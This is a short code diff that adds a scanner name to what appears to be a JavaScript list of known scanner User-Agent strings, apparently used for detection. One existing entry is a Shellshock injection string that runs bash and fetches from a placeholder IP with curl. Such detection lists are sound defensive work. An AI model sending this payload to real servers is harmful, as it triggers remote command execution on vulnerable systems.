@@ -27,6 +27,7 @@ const tools = [
   'Mozilla/5.0 zgrab/0.x',
   'sqlmap/1.8.11#stable (https://sqlmap.org)',
   'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))',
+  'l9explore/1.2.2',
   'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
   '() { :; }; /bin/bash -c "curl -s http://203.0.113.9/x"',
   '',
